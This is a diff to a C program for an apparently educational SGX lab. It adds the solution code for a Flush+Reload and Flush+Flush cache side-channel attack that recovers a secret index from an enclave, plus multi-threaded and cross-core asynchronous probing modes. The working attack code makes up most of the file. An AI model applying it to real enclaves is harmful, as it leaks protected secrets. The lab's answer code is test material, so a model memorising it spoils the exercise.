@@ -1,9 +1,14 @@
 /* utility headers */
 #include "debug.h"
 #include "cacheutils.h"
+#include "fr.h"
+#include "probe.h"
+#include <string.h>
 
 /* SGX untrusted runtime */
 #include <sgx_urts.h>
+#include "enclave.h"
+#include "mt.h"
 #include "Enclave/encl_u.h"
 
 #define NUM_SAMPLES         100
@@ -11,40 +16,45 @@
 #define SLOT_SIZE           0x1000
 #define ARRAY_LEN           (NUM_SLOTS*SLOT_SIZE)
 #define GET_SLOT(k)         (array[k*SLOT_SIZE])
-char __attribute__((aligned(0x1000))) array[ARRAY_LEN];
 
-sgx_enclave_id_t create_enclave(void)
+/*
+ * Per-thread sampling state (-t K): every thread probes its own array with
+ * its own TCS, so the threads neither share cache lines nor contend on a
+ * lock, and main() merges the hit counts once all of them are done.
+ *
+ * The arrays are registered with the enclave once (ecall_register_probe),
+ * and the attack loop only passes the returned handle; -c falls back to
+ * ecall_secret_lookup, which takes and re-checks the pointer on every call.
+ */
+typedef struct {
+    char *array;
+    int handle;
+    int hits[NUM_SLOTS];
+    void *slot_adrs[NUM_SLOTS];
+    int lat[NUM_SLOTS];
+} __attribute__((aligned(64))) sampler_t;
+
+sampler_t samplers[MT_MAX_THREADS];
+sgx_enclave_id_t eid;
+cache_calib_t calib;
+int use_ff = 0, use_checked = 0, use_async = 0;
+
+static inline void victim(sampler_t *s)
 {
-    sgx_launch_token_t token = {0};
-    int updated = 0;
-    sgx_enclave_id_t eid = -1;
-
-    info_event("Creating enclave...");
-    SGX_ASSERT( sgx_create_enclave( "./Enclave/encl.so", /*debug=*/1,
-                                    &token, &updated, &eid, NULL ) );
-
-    return eid;
+    if (use_checked)
+        ecall_secret_lookup(eid, s->array, ARRAY_LEN);
+    else
+        ecall_secret_lookup_probe(eid, s->handle);
 }
 
-int compare(const void * a, const void * b) {
-   return ( *(uint64_t*)a - *(uint64_t*)b );
-}
-int tsc[NUM_SLOTS][NUM_SAMPLES];
 
-int main( int argc, char **argv )
+void sample(void *arg, int id)
 {
-    sgx_enclave_id_t eid = create_enclave();
-    int rv = 1, secret = 0;
-    int i, j, med;
-
-    /* Ensure array pages are mapped in */
-    for (i=0; i < ARRAY_LEN; i++)
-        array[i] = 0x00;
-
-    for (j=0; j < NUM_SLOTS; j++)
-        for (i=0; i < NUM_SAMPLES; i++)
-            tsc[j][i] = 0;
-    
+    sampler_t *s = arg;
+    char *array = s->array;
+    int *hits = s->hits, *lat = s->lat;
+    void **slot_adrs = s->slot_adrs;
+
     /* ---------------------------------------------------------------------- */
     // info_event("calling enclave...");
 
@@ -52,9 +62,24 @@ int main( int argc, char **argv )
     // SGX_ASSERT( ecall_secret_lookup(eid, array, ARRAY_LEN) );
 
     /* =========================== START SOLUTION =========================== */
-    // repeat it NUM_SAMPLES times and take the median
+    // flush+flush leaves every slot flushed for the next round, so only
+    // the very first round needs an explicit flush
+    for(int j=0;j<NUM_SLOTS;j++){
+        flush(&array[SLOT_SIZE*j]);
+    }
+
+    // repeat it NUM_SAMPLES times and count the cache hits per slot
     for(int i=0;i<NUM_SAMPLES;i++){
-        uint64_t tsc1, tsc2;
+        if (use_ff){
+            // lookup the secret(victim) -- Step 1
+            victim(s);
+
+            // flush the array and classify the flush time -- Step 2
+            for(int j=0;j<NUM_SLOTS;j++){
+                hits[j] += cache_hit(&calib, flush_flush(slot_adrs[j]));
+            }
+            continue;
+        }
 
         // flush the array -- Step 1
         for(int j=0;j<NUM_SLOTS;j++){
@@ -62,27 +87,143 @@ int main( int argc, char **argv )
         }
 
         // lookup the secret(victim) -- Step 2
-        ecall_secret_lookup(eid, array, ARRAY_LEN);
+        victim(s);
 
-        // reload the array and note down time taken -- Step 3
+        // reload the array and classify the time taken -- Step 3
+        reload_batch(slot_adrs, lat, NUM_SLOTS);
         for(int j=0;j<NUM_SLOTS;j++){
-            tsc[j][i] = reload(&array[SLOT_SIZE*j]);
+            hits[j] += cache_hit(&calib, lat[j]);
         }
 
     }
     /* =========================== END SOLUTION =========================== */
+}
+
+/*
+ * Asynchronous mode (-a): the victim enters the enclave in a loop on one
+ * core while an attacker thread on another core probes the registered
+ * array with fr_async(), for a range of wait intervals between flush and
+ * reload. "detect" is the fraction of rounds with a hit on the best slot,
+ * "false" the average fraction of rounds with a hit on any other slot.
+ */
+#define ASYNC_ROUNDS        20000
+
+uint64_t async_waits[] = { 0, 1000, 3000, 10000, 30000, 100000, 300000 };
+
+void async_victim(void *arg)
+{
+    victim(arg);
+}
+
+void async_sweep(sampler_t *s)
+{
+    fr_result_t res;
+    uint64_t other;
+    int w, j, best;
+
+    printf("%8s %12s %6s %8s %8s %12s %8s\n", "wait", "probes/s", "guess",
+           "detect", "false", "calls/probe", "dropped");
+    for (w=0; w < sizeof(async_waits) / sizeof(async_waits[0]); w++)
+    {
+        fr_async(s->slot_adrs, NUM_SLOTS, &calib, async_victim, s,
+                 async_waits[w], ASYNC_ROUNDS, &res);
+
+        for (j=0, best=0, other=0; j < NUM_SLOTS; j++)
+        {
+            other += res.hits[j];
+            if (res.hits[j] > res.hits[best])
+                best = j;
+        }
+        other -= res.hits[best];
+
+        printf("%8lu %12.0f %6d %8.4f %8.4f %12.2f %8lu\n", async_waits[w],
+               res.rounds / res.secs, best,
+               (double) res.hits[best] / res.rounds,
+               (double) other / res.rounds / (NUM_SLOTS-1),
+               (double) res.victim_calls / res.rounds, res.dropped);
+    }
+    info("victim on cpu %d, attacker on cpu %d", res.victim_cpu,
+         res.attacker_cpu);
+}
+
+int main( int argc, char **argv )
+{
+    int i, j, k, best, nthreads = 1, hits[NUM_SLOTS] = {0};
+    double secs;
+    probe_buf_t region;
+    char *array;
+
+    for (i=1; i < argc; i++)
+    {
+        if (!strcmp(argv[i], "-f"))
+            use_ff = 1;
+        else if (!strcmp(argv[i], "-c"))
+            use_checked = 1;
+        else if (!strcmp(argv[i], "-a"))
+            use_async = 1;
+        else if (!strcmp(argv[i], "-t") && i+1 < argc)
+            nthreads = atoi(argv[++i]);
+    }
+    eid = enclave_open("./Enclave/encl.so", ENCLAVE_DEFAULT_FLAGS);
+
+    /* one region for all probe arrays, on 2 MiB pages where possible */
+    ASSERT(!probe_alloc(&region, MT_MAX_THREADS*NUM_SLOTS, SLOT_SIZE,
+                        PROBE_HUGE));
+    info("probe region: %zu KiB on %s pages", region.len / 1024,
+         probe_backing_name(&region));
+    for (k=0; k < MT_MAX_THREADS; k++)
+    {
+        samplers[k].array = region.base + k*ARRAY_LEN;
+        memset(samplers[k].array, 0x00, ARRAY_LEN);
+        SGX_ASSERT( ecall_register_probe(eid, &samplers[k].handle,
+                                         samplers[k].array, ARRAY_LEN) );
+        ASSERT(samplers[k].handle >= 0);
+        for (j=0; j < NUM_SLOTS; j++)
+        {
+            samplers[k].hits[j] = 0;
+            samplers[k].slot_adrs[j] = &samplers[k].array[j*SLOT_SIZE];
+        }
+    }
+
+    array = samplers[0].array;
+    info("calibrating cache hit threshold (%s)..",
+         use_ff ? "flush+flush" : "flush+reload");
+    if (use_ff)
+        calibrate_threshold_ff(&calib, &GET_SLOT(0));
+    else
+        calibrate_threshold(&calib, &GET_SLOT(0));
+    info("hit median=%d; miss median=%d; threshold=%d (error rate %.4f)",
+         calib.hit_med, calib.miss_med, calib.threshold, calib.error_rate);
+
+    if (use_async)
+    {
+        info_event("asynchronous cross-core flush+reload");
+        async_sweep(&samplers[0]);
+        enclave_close( eid );
+        info("all is well; exiting..");
+        return 0;
+    }
+
+    nthreads = mt_run(nthreads, sample, samplers, sizeof(sampler_t), &secs);
+    for (k=0; k < nthreads; k++)
+        for (j=0; j < NUM_SLOTS; j++)
+            hits[j] += samplers[k].hits[j];
 
-    for (j=0; j < NUM_SLOTS; j++)
+    for (j=0, best=0; j < NUM_SLOTS; j++)
     {
-        /* compute median over all samples (avg may be affected by outliers) */
-        qsort(tsc[j], NUM_SAMPLES, sizeof(int), compare);
-        med = tsc[j][NUM_SAMPLES/2];
-        printf("Time slot %3d (CPU cycles): %d\n", j, med);
+        printf("Time slot %3d (cache hits): %d/%d\n", j, hits[j],
+               nthreads*NUM_SAMPLES);
+        if (hits[j] > hits[best])
+            best = j;
     }
+    info("secret_idx guess = %d", best);
+    info("%d thread(s), %s ecall: %d samples in %.3f s (%.0f samples/s)",
+         nthreads, use_checked ? "checked" : "registered",
+         nthreads*NUM_SAMPLES, secs, nthreads*NUM_SAMPLES / secs);
 
     /* ---------------------------------------------------------------------- */
     info_event("destroying SGX enclave");
-    SGX_ASSERT( sgx_destroy_enclave( eid ) );
+    enclave_close( eid );
 
     info("all is well; exiting..");
 	return 0;